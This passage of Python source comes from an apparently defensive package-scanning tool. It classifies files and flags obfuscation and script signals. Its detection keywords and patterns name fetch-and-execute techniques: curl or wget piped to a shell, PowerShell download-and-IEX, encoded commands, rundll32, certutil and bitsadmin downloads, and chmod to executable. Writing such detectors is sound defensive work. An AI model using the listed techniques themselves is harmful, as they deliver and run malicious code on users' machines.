                value = f"{len(body)} chars, {entropy:.2f} bits/char"
                sig.add("high-entropy-string", OBFUSCATION, s, value)

    # -- scripts -----------------------------------------------------------------------

    def script(self, text: str, base: int | None = None) -> None:
        """Script signals in ``text``: a whole script (base None) or one JS string's value."""
        sig = self.sig

        def at(offset: int) -> int:
            return offset if base is None else base

        low = text.lower()  # only for "is the word there at all": offsets may differ
        fetches = "curl" in low or "wget" in low or "iwr" in low or "irm" in low or "invoke-" in low
        if fetches and "|" in text:
            for m in _INTO_SHELL.finditer(text):
                start = _command_start(text, m.start(), "\n;&|", 500)
                if _FETCHER.search(text, start, m.start()):
                    command = text[start : m.end()].strip()
                    sig.add("curl-pipe-shell", SCRIPT, at(start), command)
        if "curl" in low or "wget" in low:
            for m in _SUBSHELL_FETCH.finditer(text):
                sig.add("curl-pipe-shell", SCRIPT, at(m.start()), m.group())
        if "iex" in low or "invoke-expression" in low:
            for m in _PS_DOWNLOAD.finditer(text):
                start = _command_start(text, m.start(), "\n;|", 200)
                if _IEX.search(text, start, m.start()):
                    sig.add("curl-pipe-shell", SCRIPT, at(start), text[start : m.end()].strip())
        if fetches or any(w in low for w in ("bitsadmin", "bitstransfer", "certutil", "download")):
            for m in _DOWNLOAD.finditer(text):
                tool = m.group(1) or m.group(2) or m.group(3)
                sig.add("download", SCRIPT, at(m.start()), tool.lower())
        if "powershell" in low or "pwsh" in low:
            for m in _ENCODED_COMMAND.finditer(text):
                start = _command_start(text, m.start(), "\n;&|", 200)
                if _POWERSHELL.search(text, start, m.start()):
                    decoded = _decode_powershell(m.group(1))
                    sig.add("powershell-encoded", SCRIPT, at(start), decoded)
                    for u in _URL.finditer(decoded):
                        self._url(u.group(), at(start))
        if "rundll32" in low:
            for m in _RUNDLL32.finditer(text):
                sig.add("rundll32", SCRIPT, at(m.start()), m.group(1).strip())
        if "chmod" in low:
            for m in _CHMOD_EXEC.finditer(text):
                shown = _chmod_mode(m.group(1), javascript=False)
                if shown is not None:
                    sig.add("chmod-exec", SCRIPT, at(m.start()), shown)
        if base is None:
            for m in _URL.finditer(text):
                self._url(m.group(), m.start())
            for m in _IPV4.finditer(text):
                sig.add("ip", NETWORK_LITERAL, m.start(), m.group())


def _mixed(run: str) -> bool:
    """Real base64 mixes upper case, lower case and digits; identifiers and words do not."""
    return (
        any(c.isupper() for c in run[:512])
        and any(c.islower() for c in run[:512])
        and any(c.isdigit() for c in run[:512])
    )


def _describe_base64(run: str, prefix: str) -> str | None:
    """``"<n> bytes[, <format>]"``, or None for an inline image or font (a ``data:`` URI
    whose bytes are what it says)."""
    body = run.rstrip("=")
    size = len(body) * 3 // 4
    try:
        head = base64.b64decode(body[:4096] + "=" * (-len(body[:4096]) % 4))
    except (binascii.Error, ValueError):
        return f"{size} bytes"
    machine = _machine_code(head + b"\0" * 64)
    sniffed = _sniff_data(head)
    # an inline image or font: a data: URI whose bytes really are one
    declared = re.search(r"data:[\w.+-]+/[\w.+-]+[^,]*;base64,\s*\Z", prefix)
    if declared and machine is None and sniffed is not None and sniffed[2] in ("image", "font"):
        return None
    if machine is not None:
        return f"{size} bytes, {machine[0]}"
    if sniffed is not None:
        return f"{size} bytes, {sniffed[1]}"
    return f"{size} bytes"


_SHORT_BASE64 = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")


def _short_base64(body: str) -> str | None:
    """The text a base64 string literal spells, when it spells printable ASCII."""
    if len(body) % 4 or not _SHORT_BASE64.fullmatch(body):
        return None
    if not (any(c.isdigit() or c in "+/=" for c in body) and any(c.isupper() for c in body)):
        return None
    try:
        raw = base64.b64decode(body, validate=True)
    except (binascii.Error, ValueError):
        return None
    if not raw or any((b < 0x20 and b not in (9, 10, 13)) or b > 0x7E for b in raw):
        return None
    return raw.decode("ascii")


_SHORT_HEX = re.compile(r"(?:[0-9a-f]{2}){4,}|(?:[0-9A-F]{2}){4,}")


def _short_hex(body: str) -> str | None:
    """The text a hex string literal spells, when it spells printable ASCII."""
    if not _SHORT_HEX.fullmatch(body):
        return None
    raw = bytes.fromhex(body)
    if any((b < 0x20 and b not in (9, 10, 13)) or b > 0x7E for b in raw):
        return None
    return raw.decode("ascii")


def _decode_powershell(blob: str) -> str:
    try:
        raw = base64.b64decode(blob + "=" * (-len(blob) % 4))
        return raw.decode("utf-16-le")[:MAX_VALUE]
    except (binascii.Error, ValueError, UnicodeDecodeError):
        return blob[:MAX_VALUE]


def _entropy(s: str) -> float:
    """Shannon entropy in bits per character."""
    n = len(s)
    if n == 0:
        return 0.0
    return -sum(c / n * math.log2(c / n) for c in Counter(s).values())


# -- the public functions ------------------------------------------------------------------


_EMPTY = Content(
    kind=Kind.SOURCE,
    mime="application/x-empty",
    text=True,
    lines=0,
    longest_line=0,
    binary_format=None,
    extension_mismatch=None,
    signals=(),
)


def analyze(
    path: str,
    data: bytes,
    *,
    signals: bool = True,
    on_scan: Callable[[int], None] | None = None,
) -> Content:
    """What ``data`` is. ``path`` (the package-relative installed path) is used only for its
    extension: to report an extension that lies about the bytes, and to decide whether text
    is JavaScript-like or a script. Pure: no disk, no network, no subprocess.

    ``on_scan(len(data))`` is called just before the signals of code are looked for (it may
    raise to refuse the work: a :class:`tarlens._limits.ScanBudget` does).

    ``signals=False`` is the cheap pass (kind, MIME type, lines, native format, extension
    mismatch; every step a C-speed scan of the bytes) and leaves the signals of code unsought
    (``Content.scanned`` is False); the result is otherwise the same as with signals."""
    if not data:
        return _EMPTY  # the same for every name (and what entry-count bombs are made of)
    ext = _extension(path)
    machine = _machine_code(data)
    if machine is not None:
        binary_format, mime = machine
        return Content(
            kind=Kind.BINARY,
            mime=mime,
            text=False,
            lines=None,
            longest_line=None,
            binary_format=binary_format,
            extension_mismatch=_mismatch(ext, Kind.BINARY, binary_format, None, False, False),
            signals=(),
        )
    # UTF-8 text is only validated here, never decoded whole: the name tests read the head,
    # line statistics are measured on the UTF-8 bytes (``data`` itself, less a BOM), and
    # only the signal scan needs the text (ASCII text is its own decoding).
    text: str | None = None
    utf8: bytes
    utf16 = data.startswith(_UTF16_BOMS)
    few_controls = _text_bytes(data)
    if not utf16 and few_controls and _is_utf8(data):
        utf8 = data[3:] if data.startswith(codecs.BOM_UTF8) else data
        head = _head(utf8)
    else:
        text = _decode_utf16(data) if utf16 else None
        sniffed = _sniff_data(data) if text is None else None
        if text is None and sniffed is None and few_controls:
            text = _decode_8bit(data)
        if text is None:
            return Content(
                kind=Kind.DATA,
                mime=sniffed[0] if sniffed is not None else _LIBMAGIC.mime(data),
                text=False,
                lines=None,
                longest_line=None,
                binary_format=None,
                extension_mismatch=_mismatch(ext, Kind.DATA, None, sniffed, False, False),
                signals=(),
            )
        utf8 = text.encode("utf-8", "surrogatepass")
        head = text[:_HEAD]
    js_like, script = _classify_name(ext, head)
    mime = _text_mime(head, utf8, js_like, named_json=ext == ".json")
    code_like = mime not in ("application/json", "image/svg+xml", "text/html", "text/xml")
    stats = _text_stats(utf8, code_like)
    kind = Kind.MINIFIED if stats.minified else Kind.SOURCE
    found: tuple[Signal, ...] = ()
    scanned = not (js_like or script)
    if signals and not scanned:
        if on_scan is not None:
            on_scan(len(data))
        if text is None:
            text = utf8.decode("utf-8")
        if js_like:
            # line lengths in characters: for ASCII text, the byte lengths already counted
            lengths: Sequence[int] = (
                stats.lengths if len(text) == len(utf8) else _line_lengths(text, "\n")
            )
            analyzer = _Analyzer(text, _lex(text), lengths)
            analyzer.javascript(lengths, stats.minified)
        else:
            analyzer = _Analyzer(text, None)
            analyzer.script(text)
        found = analyzer.sig.result()
        scanned = True
    return Content(
        kind=kind,
        mime=mime,
        text=True,
        lines=stats.lines,
        longest_line=stats.longest,
        binary_format=None,
        extension_mismatch=_mismatch(ext, kind, None, None, js_like, script),
        signals=found,
        scanned=scanned,
    )


# -- the per-package summary ---------------------------------------------------------------


@attrs.frozen
class KindTotal:
    kind: Kind
    files: int
    bytes: int


@attrs.frozen
class Payload:
    """A large minified or binary file."""

    path: str
    size: int
    binary_format: str | None = None


@attrs.frozen
class FlaggedFile:
    """A file with obfuscation signals (or an extension that lies), and which ones."""

    path: str
    size: int
    signals: tuple[str, ...]


@attrs.frozen
class Summary:
    """What a package is made of."""

    #: one entry per kind, in :class:`Kind` order
    totals: tuple[KindTotal, ...]
    #: the largest minified and binary files, largest first (at most ``Summary.TOP`` each)
    largest_minified: tuple[Payload, ...]
    largest_binary: tuple[Payload, ...]
    #: every file with at least one obfuscation signal, in path order
    obfuscated: tuple[FlaggedFile, ...]
    #: every file whose extension lies about its bytes: (path, explanation)
    mismatched: tuple[tuple[str, str], ...]

    TOP: ClassVar[int] = 10

    def files(self, kind: Kind) -> int:
        return next(t.files for t in self.totals if t.kind is kind)

    def bytes(self, kind: Kind) -> int:
        return next(t.bytes for t in self.totals if t.kind is kind)


def summarize(files: Iterable[tuple[str, int, Content]]) -> Summary:
    """Fold ``(path, size, content)`` of every file of a package into a :class:`Summary`."""
    counts: Counter[Kind] = Counter()
    sizes: Counter[Kind] = Counter()
    minified: list[Payload] = []
    binary: list[Payload] = []
    obfuscated: list[FlaggedFile] = []
    mismatched: list[tuple[str, str]] = []
    for path, size, content in files:
        counts[content.kind] += 1
        sizes[content.kind] += size
        if content.kind is Kind.MINIFIED:
            minified.append(Payload(path, size))
        elif content.kind is Kind.BINARY:
            binary.append(Payload(path, size, content.binary_format))
        names = sorted(content.signal_names(OBFUSCATION))
        if names:
            obfuscated.append(FlaggedFile(path, size, tuple(names)))
        if content.extension_mismatch is not None:
            mismatched.append((path, content.extension_mismatch))

    def top(items: list[Payload]) -> tuple[Payload, ...]:
        return tuple(sorted(items, key=lambda p: (-p.size, p.path))[: Summary.TOP])

    return Summary(
        totals=tuple(KindTotal(k, counts[k], sizes[k]) for k in Kind),
        largest_minified=top(minified),
        largest_binary=top(binary),
        obfuscated=tuple(sorted(obfuscated, key=lambda f: f.path)),
        mismatched=tuple(sorted(mismatched)),
    )
